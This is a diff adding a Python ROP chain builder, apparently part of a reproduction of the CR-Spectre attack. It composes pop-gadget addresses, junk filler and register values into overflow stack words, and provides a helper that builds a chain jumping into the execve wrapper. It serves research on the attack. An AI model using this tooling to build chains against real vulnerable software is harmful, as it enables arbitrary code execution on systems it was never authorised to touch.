@@ -1,0 +1,103 @@
+"""ROP chain builder.
+
+A chain is the word sequence the overflow writes above the smashed
+return address: gadget entry points interleaved with the data words
+their ``pop`` instructions consume.  The builder composes register
+loads from whatever pop-gadgets the scanned image actually offers —
+inserting junk filler words for extra leading pops — and ends with a
+jump into a function (for CR-Spectre: the libc ``execve`` wrapper).
+"""
+
+import dataclasses
+
+from repro.errors import GadgetNotFoundError
+from repro.isa.opcodes import Opcode
+
+_JUNK_WORD = 0x4B4E554A  # "JUNK"
+
+
+@dataclasses.dataclass(frozen=True)
+class RopChain:
+    """The finished chain: stack words (low address first) + provenance."""
+
+    words: tuple
+    gadgets: tuple  # the Gadget objects used, for reporting
+
+    @property
+    def num_words(self):
+        return len(self.words)
+
+    @property
+    def size_bytes(self):
+        return 4 * len(self.words)
+
+    def describe(self):
+        lines = [f"ROP chain: {self.num_words} words"]
+        lines.extend(f"  uses {gadget}" for gadget in self.gadgets)
+        return "\n".join(lines)
+
+
+class ChainBuilder:
+    """Accumulates register loads and calls into a stack-word sequence."""
+
+    def __init__(self, scanner):
+        self.scanner = scanner
+        self._words = []
+        self._gadgets = []
+
+    def set_registers(self, assignments):
+        """Load several registers, preferring one multi-pop gadget.
+
+        *assignments* is an ordered list of ``(register, value)``.  Tries
+        a single exact ``pop r1; ...; pop rN; ret`` gadget first, then
+        falls back to one gadget per register.
+        """
+        registers = [register for register, _ in assignments]
+        try:
+            gadget = self.scanner.find_pop_sequence(registers)
+        except GadgetNotFoundError:
+            for register, value in assignments:
+                self.set_register(register, value)
+            return self
+        self._words.append(gadget.address)
+        self._words.extend(value for _, value in assignments)
+        self._gadgets.append(gadget)
+        return self
+
+    def set_register(self, register, value):
+        """Load one register via the shortest available pop gadget."""
+        gadget = self.scanner.find_pop_register(register)
+        self._words.append(gadget.address)
+        pops = [
+            insn for insn in gadget.instructions
+            if insn.opcode == Opcode.POP
+        ]
+        # Leading pops consume junk; the final pop takes the value.
+        self._words.extend([_JUNK_WORD] * (len(pops) - 1))
+        self._words.append(value)
+        self._gadgets.append(gadget)
+        return self
+
+    def call(self, address):
+        """Transfer control to *address* (a function entry or gadget)."""
+        self._words.append(address)
+        return self
+
+    def build(self):
+        return RopChain(words=tuple(self._words),
+                        gadgets=tuple(self._gadgets))
+
+
+def build_execve_chain(scanner, execve_address, path_address,
+                       argument_address=0):
+    """The paper's chain: load a0/a1, then enter the execve wrapper.
+
+    Listing 1's "address of system ... address of attack function"
+    realised against the gadgets actually present in the host image.
+    """
+    from repro.isa.registers import A0, A1
+
+    builder = ChainBuilder(scanner)
+    builder.set_registers([(A0, path_address), (A1, argument_address)])
+    builder.call(execve_address)
+    return builder.build()
